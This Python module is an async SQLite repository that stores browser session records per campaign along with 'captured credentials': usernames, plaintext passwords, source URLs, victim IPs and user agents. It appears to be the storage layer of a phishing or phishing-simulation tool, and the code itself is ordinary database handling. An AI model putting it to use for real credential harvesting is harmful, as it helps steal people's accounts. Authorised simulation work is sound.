"""Async repository for durable session records and captured credentials."""

from __future__ import annotations

import logging
import sys
from datetime import datetime
from typing import Optional

import aiosqlite

from ..models.session import CapturedCredential, PersistedSessionRecord

logger = logging.getLogger(__name__)
if not logger.handlers:
    handler = logging.StreamHandler(sys.stderr)
    handler.setFormatter(logging.Formatter("%(asctime)s [%(name)s] %(levelname)s: %(message)s"))
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)


class SessionRepository:
    """Async repository for browser session data in SQLite."""

    def __init__(self, db: aiosqlite.Connection):
        self._db = db

    async def save_record(self, record: PersistedSessionRecord) -> bool:
        """Store the record unless one already exists for the token.

        Records are written once and never updated. Returns True if inserted.
        """
        cursor = await self._db.execute(
            """
            INSERT OR IGNORE INTO browser_sessions (session_token, campaign_id, created_at)
            VALUES (?, ?, ?)
            """,
            (record.session_token, record.campaign_id, record.created_at.isoformat()),
        )
        await self._db.commit()
        return cursor.rowcount > 0

    async def get_record(self, session_token: str) -> Optional[PersistedSessionRecord]:
        async with self._db.execute(
            "SELECT session_token, campaign_id, created_at FROM browser_sessions WHERE session_token = ?",
            (session_token,),
        ) as cursor:
            row = await cursor.fetchone()
            if row:
                return PersistedSessionRecord(
                    session_token=row[0],
                    campaign_id=row[1],
                    created_at=datetime.fromisoformat(row[2]),
                )
        return None

    async def list_records(self, campaign_id: Optional[str] = None) -> list[PersistedSessionRecord]:
        """Session records, newest first, optionally for one campaign."""
        sql = "SELECT session_token, campaign_id, created_at FROM browser_sessions"
        params: tuple = ()
        if campaign_id:
            sql += " WHERE campaign_id = ?"
            params = (campaign_id,)
        sql += " ORDER BY created_at DESC"

        async with self._db.execute(sql, params) as cursor:
            rows = await cursor.fetchall()
            return [
                PersistedSessionRecord(
                    session_token=row[0],
                    campaign_id=row[1],
                    created_at=datetime.fromisoformat(row[2]),
                )
                for row in rows
            ]

    async def save_credential(self, credential: CapturedCredential):
        await self._db.execute(
            """
            INSERT INTO captured_credentials (
                session_token, campaign_id, email_or_username, password,
                source_url, capture_method, ip_address, user_agent, captured_at
            ) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)
            """,
            (
                credential.session_token, credential.campaign_id,
                credential.email_or_username, credential.password,
                credential.source_url, credential.capture_method,
                credential.ip, credential.user_agent,
                credential.timestamp.isoformat(),
            ),
        )
        await self._db.commit()

    async def list_credentials(self, session_token: str) -> list[CapturedCredential]:
        async with self._db.execute(
            """
            SELECT session_token, campaign_id, email_or_username, password, source_url,
                   capture_method, ip_address, user_agent, captured_at
            FROM captured_credentials WHERE session_token = ? ORDER BY id
            """,
            (session_token,),
        ) as cursor:
            rows = await cursor.fetchall()
            return [
                CapturedCredential(
                    session_token=row[0],
                    campaign_id=row[1],
                    email_or_username=row[2],
                    password=row[3],
                    source_url=row[4],
                    capture_method=row[5],
                    ip=row[6],
                    user_agent=row[7],
                    timestamp=datetime.fromisoformat(row[8]),
                )
                for row in rows
            ]
